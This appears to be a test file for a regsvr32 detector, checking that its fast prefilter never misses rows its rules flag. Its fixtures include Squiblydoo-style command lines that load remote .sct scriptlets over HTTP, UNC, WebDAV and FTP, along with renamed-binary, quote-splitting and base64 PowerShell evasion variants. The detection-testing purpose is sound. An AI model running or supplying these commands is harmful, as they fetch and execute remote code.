"""The cheap test is sound (reliability item 20): every row any rule flags passes it.

``fields.mentions_regsvr32`` decides, before anything is read, that a row cannot concern
regsvr32; the byte-level path (regsvr32_fastpath) copies the rows it does not mark without
asking the detector. A row a rule would flag that either of them lets by passes with score 0,
silently. So: for every rule's positive examples, in every EDR shape, and in generated variants
of them (column order permutations, decoy columns before the command line, multivalue fields,
placeholder event-type fields, paths as Windows logs write them, command lines written the ways
regsvr32 and PowerShell still read them: any case, any switch prefix, tabs, quotes anywhere, the
program named or not, a renamed copy, scriptlets over UNC, WebDAV or any URL scheme, encoded
PowerShell with any switch prefix), the rules are run with the cheap test switched off, and
every row they flag must pass the cheap test and be marked by the byte-level path.
"""
import base64
import contextlib
import random

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from regsvr32_detector import RULES, Detector, OUTPUT_FIELDS, bytemarks, cmdline, fields
import regsvr32_fastpath
from regsvr32_detector.bytemarks import spans
from support import edr_shapes
from test_leanio import splunkd_body
from test_properties import PROFILE


MENTIONS = fields.mentions_regsvr32
DETECTOR = Detector()


@contextlib.contextmanager
def no_cheap_test():
    fields.mentions_regsvr32 = lambda *args, **kwargs: True
    try:
        yield
    finally:
        fields.mentions_regsvr32 = MENTIONS


def flagged(record):
    """The rules the detector would fire on RECORD if the cheap test let every row through."""
    with no_cheap_test():
        return Detector().evaluate(record).rules


# --- the examples ------------------------------------------------------------------------------
def _examples():
    out = []
    for rule in RULES:
        for i, record in enumerate(rule.positives):
            out.append(("%s+%d" % (rule.id, i), dict(record)))
            for shape in edr_shapes.SHAPES:
                converted = edr_shapes.convert(shape, record)
                if converted:
                    out.append(("%s+%d %s" % (rule.id, i, shape), converted))
    return out


EXAMPLES = _examples()
COMMAND_LINES = frozenset(src for src, (name, _) in fields.SOURCES.items() if name == "command_line") | frozenset(
    src for shape in fields.EDR_SHAPES for table in shape.sources.values()
    for src, (name, _) in table.items() if name == "command_line")
IMAGES = frozenset(src for src, (name, _) in fields.SOURCES.items() if name in ("image", "source_image")) | frozenset(
    src for shape in fields.EDR_SHAPES for table in shape.sources.values()
    for src, (name, _) in table.items() if name in ("image", "source_image"))
IDENTITY = frozenset(src for src, (name, _) in fields.SOURCES.items()
                     if name in ("original_file_name", "description", "process_name")) | frozenset(
    src for shape in fields.EDR_SHAPES for table in shape.sources.values()
    for src, (name, _) in table.items() if name in ("original_file_name", "description", "process_name"))
PATHS = frozenset(src for src, (name, _) in fields.SOURCES.items() if name in fields.PATH_FIELDS) | frozenset(
    src for shape in fields.EDR_SHAPES for table in shape.sources.values()
    for src, (name, _) in table.items() if name in fields.PATH_FIELDS)
SELECTORS = tuple(sorted(set(f for shape in fields.EDR_SHAPES for f in shape.type_fields)))


def test_every_positive_example_is_flagged_and_passes_the_cheap_test():
    assert len(EXAMPLES) > 150
    for name, record in EXAMPLES:
        rules = flagged(record)
        if name.count(" ") == 0:
            assert name.split("+")[0] in rules, name         # the rule's own example
        if rules:
            assert MENTIONS(record), (name, rules, record)


# --- the forms ---------------------------------------------------------------------------------
DECOY_NAMES = ["note", "_raw", "cmd", "CommandLine_old", "process_exec", "Processes.process_exec",
               "ParentCommandLine", "process.args", "message", "dest", "signature", "CommandLine "]
DECOY_VALUES = ["", "-", "notepad.exe C:\\x\\todo.txt", "C:\\Windows\\System32\\svchost.exe -k netsvcs",
                '"C:\\Program Files\\App\\app.exe" --flag', "a,b", "ok"]
LOGGED = [("C:\\Windows\\", "\\??\\C:\\Windows\\"), ("C:\\Windows\\", "\\\\?\\C:\\Windows\\"),
          ("C:\\Windows\\", "%SystemRoot%\\"), ("C:\\Windows\\", "%windir%\\"),
          ("C:\\Windows\\", "\\SystemRoot\\"), ("C:\\Windows\\System32\\", "C:\\Windows\\Sysnative\\"),
          ("C:\\", "\\??\\C:\\"), ("C:\\", "\\\\?\\C:\\")]
PREFIXES = ["/", "-", "\u2013", "\u2014", "\u2015"]
REMOTE = [("http://", "\\\\"), ("http://", "//"), ("http://", "ftp://"), ("http://", "file://"),
          ("http://", "\\\\?\\UNC\\"), ("http://", "\\??\\UNC\\"), ("https://", "\\\\"),
          ("http://", "HTTP://"), ("http://", '"http://'), ("http://", "\\/\\/")]


def _recase(rnd, text):
    pick = rnd.random()
    if pick < 0.3:
        return text.upper()
    if pick < 0.6:
        return text.lower()
    return "".join(c.upper() if rnd.random() < 0.5 else c.lower() for c in text)


def _quotes(rnd, text):
    # "" anywhere outside a quoted stretch is read as nothing (split_argv)
    out = list(text)
    for _ in range(rnd.randint(1, 4)):
        i = rnd.randrange(len(out) + 1)
        if out[:i].count('"') % 2 == 0:
            out.insert(i, '""')
    return "".join(out)


def _switches(rnd, text):
    prefix = rnd.choice(PREFIXES)
    return " ".join(prefix + t[1:] if t[:1] in ("/", "-") and len(t) > 1 else t for t in text.split(" "))


def _blanks(rnd, text):
    return text.replace(" ", rnd.choice(["\t", "  ", " \t "]))


def _program(rnd, text):
    words = text.split(" ", 1)
    if "regsvr32" not in words[0].lower() or len(words) < 2:
        return text
    return rnd.choice(["", "regsvr32 ", "regsvr32.exe ", '"C:\\Windows\\System32\\regsvr32.exe" ',
                       "C:\\Windows\\SysWOW64\\regsvr32.exe ", "%windir%\\system32\\regsvr32.exe ",
                       "\\??\\C:\\Windows\\System32\\regsvr32.exe "]) + words[1]


def _remote(rnd, text):
    old, new = rnd.choice(REMOTE)
    return text.replace(old, new) if old in text else text


def _encoded(rnd, text):
    for switch in ("-encodedCommand", "-enc", "-ec", "-e "):
        if switch in text:
            return text.replace(switch, rnd.choice(PREFIXES) + rnd.choice(["e", "E", "enc", "EC", "EncodedCommand"])
                                + (" " if switch.endswith(" ") else ""), 1)
    return text


LINE_FORMS = [_recase, _quotes, _switches, _blanks, _program, _remote, _encoded]


def _renamed(rnd, record):
    # a renamed copy, as a log without OriginalFileName (4688, CIM, CrowdStrike) has it
    out = dict((k, v) for k, v in record.items() if k not in IDENTITY)
    for k in out:
        if k in IMAGES and isinstance(out[k], str) and "regsvr32" in out[k].lower():
            out[k] = rnd.choice(["C:\\Users\\Public\\svc.exe", "C:\\ProgramData\\jabber.exe", "svc.exe"])
    return out


def _logged_paths(rnd, record):
    out = dict(record)
    for k, v in out.items():
        if k in PATHS and isinstance(v, str):
            old, new = rnd.choice(LOGGED)
            if v.startswith(old):
                out[k] = new + v[len(old):]
    return out


def _multivalue(rnd, record):
    out = dict(record)
    keys = [k for k, v in out.items() if isinstance(v, str) and v and k not in SELECTORS
            and k not in ("EventCode", "event.code")]
    for k in rnd.sample(keys, min(len(keys), rnd.randint(1, 2))):
        decoy = rnd.choice(DECOY_VALUES[2:])
        out[k] = [decoy, out[k]] if rnd.random() < 0.7 else [out[k], decoy, decoy + " 2"]
    return out


def _placeholders(rnd, record):
    out = dict(record)
    for k in rnd.sample(SELECTORS, rnd.randint(1, 3)):
        out.setdefault(k, rnd.choice(["", "-", "N/A", "null", "unknown"]))
    return out


def _decoys_and_order(rnd, record):
    items = list(record.items())
    rnd.shuffle(items)
    at = next((i for i, (k, _) in enumerate(items) if k in COMMAND_LINES), 0)
    for _ in range(rnd.randint(0, 4)):
        name = rnd.choice(DECOY_NAMES)
        if name not in record:
            items.insert(at, (name, rnd.choice(DECOY_VALUES)))
    return dict(items)


RECORD_FORMS = [_renamed, _logged_paths, _multivalue, _placeholders]


def variant(seed, record):
    """One generated variant of RECORD: some command-line forms, some record forms, then decoy
    columns and a column order."""
    rnd = random.Random(seed)
    out = dict(record)
    for k, v in list(out.items()):
        if k in COMMAND_LINES and isinstance(v, str) and v:
            for form in rnd.sample(LINE_FORMS, rnd.randint(0, len(LINE_FORMS))):
                v = form(rnd, v)
            out[k] = v
    for form in rnd.sample(RECORD_FORMS, rnd.randint(0, len(RECORD_FORMS))):
        out = form(rnd, out)
    return _decoys_and_order(rnd, out)


def _check(record):
    rules = flagged(record)
    if rules:
        assert MENTIONS(record), (rules, record)
        # the byte-level path marks it too, among rows that cannot concern regsvr32
        filler = [dict.fromkeys(record, "x")] * 12
        body = splunkd_body(filler + [record] + filler)
        chunk, why = regsvr32_fastpath.plan(body, OUTPUT_FIELDS, spans)
        if chunk is not None:
            assert 12 in chunk.marked, (rules, record)
    return bool(rules)


@PROFILE
@given(example=st.sampled_from(EXAMPLES), seed=st.integers(0, 2 ** 32 - 1))
def test_every_row_a_rule_flags_passes_the_cheap_test(example, seed):
    _check(variant(seed, example[1]))


@pytest.mark.parametrize("form", LINE_FORMS + RECORD_FORMS + [_decoys_and_order], ids=lambda f: f.__name__)
def test_each_form_alone_over_every_example(form):
    # every example, each form alone, a few draws each: many of them are still flagged (a renamed
    # copy is flagged by fewer rules)
    still = total = 0
    for n, (name, record) in enumerate(EXAMPLES):
        for draw in range(4):
            rnd = random.Random(n * 7 + draw)
            if form in LINE_FORMS:
                out = dict((k, form(rnd, v) if k in COMMAND_LINES and isinstance(v, str) and v else v)
                           for k, v in record.items())
            else:
                out = form(rnd, record)
            still += _check(out)
            total += 1
    assert still > total // 5


FORM_RECORDS = [
    # a renamed copy (4688: no OriginalFileName) fetching its scriptlet every way regsvr32 reads
    {"EventCode": "4688", "NewProcessName": "C:\\ProgramData\\jabber.exe", "CommandLine": line}
    for line in [
        "jabber.exe /s /u /i:\\\\10.1.2.3\\share\\a.sct x.dll",
        "jabber.exe /s /u /i://10.1.2.3/share/a.sct x.dll",
        "jabber.exe /s /u /i:\\\\files@SSL\\DavWWWRoot\\a.sct x.dll",
        "jabber.exe /s /u /i:ftp://files.example/a.sct x.dll",
        'jabber.exe /s /u /i:"http://files.example/a.sct" x.dll',
        'jabber.exe /s /u /i:""http://files.example/a.sct x.dll',
        "jabber.exe /s /u /i:h\"\"ttp://files.example/a.sct x.dll",
        "jabber.exe /s /u /i:\\??\\UNC\\files\\share\\a.sct x.dll",
        "jabber.exe /s /u /i:\\/\\/files/share/a.sct x.dll",
        'jabber.exe /s /u /i:C:\\Users\\Public\\a.sct "scr""obj.dll"',
        'jabber.exe /s /u /i:C:\\Users\\Public\\a.sct sc""robj.dll',
    ]] + [
    # regsvr32 in an encoded PowerShell command, any switch prefix PowerShell takes
    {"EventCode": "1", "Image": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
     "CommandLine": "powershell.exe %senc cgBlAGcAcwB2AHIAMwAyACAALwBzACAAeAAuAGQAbABsAA==" % prefix}
    for prefix in PREFIXES] + [
    {"EventCode": "4698", "TaskContent": "<Command>pwsh</Command><Arguments>-NoP /ec 'cgBlAGcAcwB2AHIAMwAyACAALwBzACAAeAAuAGQAbABsAA=='</Arguments>"},
]


@pytest.mark.parametrize("record", FORM_RECORDS)
def test_the_forms_a_renamed_copy_and_powershell_take(record):
    assert flagged(record), record
    assert _check(record)


# --- item 19: no verdict depends on column order or on fields no reader reads ---------------------
def _b64(text):
    return base64.b64encode(text.encode("utf-16-le")).decode("ascii")


# Encoded commands that run nothing of regsvr32, long enough to be decoded, in texts that name
# PowerShell: what made the cheap test's old budget (its first 8 encoded commands of the row's
# fields joined in header order) run out before the command line.
DECOY_PIECES = ["-e " + _b64("Write-Output %d" % i) for i in range(4)] + [
    "/ec " + _b64("Get-Date"), "\u2013enc " + _b64("Get-Service spooler"), "C:\\Users\\bob\\",
    "powershell.exe", "pwsh", "launcher.exe", "-nop", "x"]
SQUIBLYDOO_ENCODED = {
    "EventCode": "1", "Image": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
    "CommandLine": "powershell.exe -nop -e " + _b64("regsvr32 /s /u /i:http://198.51.100.7/a.sct scrobj.dll")}


def _unread_scanned(record):
    """Fields the cheap test scans that no reader of RECORD reads: the EDR fields of every vendor
    whose event-type field the row does not have."""
    present = set(record)
    out = set(fields.SCAN_KEYS) - set(fields.SOURCES)
    for shape in fields.EDR_SHAPES:
        if present & set(shape.type_fields):
            out -= set(k for table in shape.sources.values() for k in table)
            out -= set(f for joins in shape.joins.values() for _, a, b, _ in joins for f in a + b)
    return sorted(out - present)


def _verdict(record):
    v = DETECTOR.evaluate(record)
    return v.score, v.rules, v.mitre, v.signature, bool(v.error)


# the examples that hide regsvr32 in an encoded command, drawn as often as all the others
ENCODED_EXAMPLES = [e for e in EXAMPLES if any(
    "regsvr32" in d.lower() for v in e[1].values() if isinstance(v, str)
    for d in cmdline.encoded_commands(v))]


@PROFILE
@given(example=st.one_of(st.sampled_from(ENCODED_EXAMPLES), st.sampled_from(EXAMPLES)), data=st.data())
@example(example=("R32-045 hidden", SQUIBLYDOO_ENCODED), data=None)
def test_column_order_and_unread_decoy_fields_change_no_verdict(example, data):
    assert len(ENCODED_EXAMPLES) >= 4
    # the same row, its columns in another order, with fields no reader of it reads (holding up to
    # a dozen encoded PowerShell commands) anywhere among them: the same cheap test, the same verdict
    record = example[1]
    if data is None:        # the explicit example: a dozen decoys in a field before the command line
        items = [("tgt.process.cmdline", " ".join(DECOY_PIECES * 2))] + list(record.items())
    else:
        names = _unread_scanned(record)
        decoys = data.draw(st.lists(st.tuples(
            st.sampled_from(names), st.lists(st.sampled_from(DECOY_PIECES), min_size=1, max_size=14)),
            max_size=3, unique_by=lambda d: d[0]))
        items = data.draw(st.permutations(list(record.items()) + [(k, " ".join(v)) for k, v in decoys]))
    changed = dict(items)
    assert MENTIONS(changed) == MENTIONS(record), (record, changed)
    assert _verdict(changed) == _verdict(record), (record, changed)
    if data is None:
        assert "R32-045" in _verdict(changed)[1]


def test_the_base64_run_check_is_the_regex():
    # bytemarks._holds looks for RUN's run with translate and find, not the regex: the same answer
    rnd = random.Random(11)
    alphabet = bytemarks.RUN_CHARS + b"ABZ=-_ .,\"\n\xe2\x80\x93"
    for _ in range(3000):
        n = rnd.randint(0, 60)
        row = bytes(bytearray(rnd.choice(bytearray(alphabet)) if rnd.random() < 0.3 else
                              rnd.choice(bytearray(bytemarks.RUN_CHARS)) for _ in range(n)))
        assert (bytemarks.RUN.search(row) is not None) == (bytemarks.RUN_RUN in row.translate(
            bytemarks.RUN_MAP)), row
    every = bytes(bytearray(range(256)))
    assert every.translate(bytemarks.RUN_MAP).count(b"a") == len(bytemarks.RUN_CHARS) == 38


def test_each_needle_is_found_where_bytes_find_finds_it():
    # short needles are searched with a literal pattern (bytemarks.FIND): the same positions
    assert sorted(bytemarks.SHORT) == sorted(n for n in bytemarks.NEEDLES if len(n) <= 4)
    text = b"pwsh -c x\nregsvr32 /i:http://a/b scrobj.dll i: pwsh\n" * 3 + b"i:"
    for needle in bytemarks.NEEDLES:
        for start in range(len(text) + 1):
            assert bytemarks.FIND[needle](text, needle, start) == text.find(needle, start), needle
